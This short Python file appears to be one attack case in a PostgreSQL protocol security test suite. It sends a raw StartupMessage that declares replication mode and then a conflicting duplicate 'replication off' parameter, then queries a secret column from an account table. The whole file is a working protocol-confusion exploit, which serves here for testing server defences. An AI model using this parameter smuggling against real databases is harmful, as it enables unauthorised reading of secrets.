"""Says in one StartupMessage that it replicates, and then that it does not."""

from attacks.frames import ask, query
from attacks.talking import Server
from raw_client import startup

WANTS = "read"
SETUP = "ALTER ROLE mallory REPLICATION"


def attack(server: Server) -> bytes:
    hello = startup(user=server.user, database=server.dbname, replication="database")
    hello = hello[:-1] + b"replication\0off\0\0"
    with server.raw() as client:
        client.send((len(hello)).to_bytes(4, "big") + hello[4:])
        client.replies()
        return ask(client, query(b"SELECT secret FROM vlt_account"))
